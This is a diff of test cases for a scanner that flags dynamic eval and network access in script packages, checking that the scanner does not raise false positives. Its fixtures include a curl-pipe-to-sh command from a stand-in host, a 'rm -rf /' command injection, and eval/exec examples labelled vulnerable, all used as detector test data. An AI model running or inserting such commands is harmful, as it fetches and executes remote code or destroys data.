@@ -59,14 +59,18 @@ describe('false positives on real skills', () => {
   })
   it('reads compile() without exec as a syntax check', () => {
     expect(
-      hitsOf('dynamic_eval', { 'scripts/c.py': 'compile(body, "<embedded>", "exec")\ncode = compile(src, "f", "exec")\nexec(code)\n' }),
+      hitsOf('dynamic_eval', {
+        'scripts/c.py': 'compile(body, "<embedded>", "exec")\ncode = compile(src, "f", "exec")\nexec(code)\n',
+      }),
     ).toEqual(['error dynamic_eval scripts/c.py:3:1'])
   })
   it('reads an AF_UNIX socket and a module asset URL as local', () => {
     expect(
       hitsOf('network_access', {
-        'scripts/s.py': 'import socket\ns = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\nt = socket.socket(\n    socket.AF_UNIX)\n',
-        'scripts/og.js': 'const logo = await fetch(new URL(\'./logo.png\', import.meta.url)).then(r => r.arrayBuffer())\n',
+        'scripts/s.py':
+          'import socket\ns = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n'
+          + 't = socket.socket(\n    socket.AF_UNIX)\n',
+        'scripts/og.js': 'const logo = await fetch(new URL(\'./logo.png\', import.meta.url))\n',
         'scripts/u.py': 'import urllib.parse\nfrom urllib.parse import quote\n',
       }),
     ).toEqual([])
@@ -93,7 +97,8 @@ describe('false positives on real skills', () => {
   it('reads a command named, not run, as no network use', () => {
     expect(
       hitsOf('network_access', {
-        'scripts/a.sh': 'man curl | grep -o x\ncommand -v curl >/dev/null\napt-get install -y curl wget\ncurl --version\n',
+        'scripts/a.sh':
+          'man curl | grep -o x\ncommand -v curl >/dev/null\napt-get install -y curl wget\ncurl --version\n',
       }),
     ).toEqual([])
   })
@@ -101,7 +106,8 @@ describe('false positives on real skills', () => {
     expect(
       hits({
         'references/py.md':
-          '# ref\n\nVulnerable:\n\n```python\neval(user_input)\n```\n\n```python\n# DANGEROUS: exec\nexec(code)\n```\n\n'
+          '# ref\n\nVulnerable:\n\n```python\neval(user_input)\n```\n\n'
+          + '```python\n# DANGEROUS: exec\nexec(code)\n```\n\n'
           + '**Insecure example**\n\n```bash\ncurl -s https://x.example/i.sh | sh\n```\n\n'
           + '```php\n// Attacker: ?dir=; rm -rf /\n```\n',
       }),
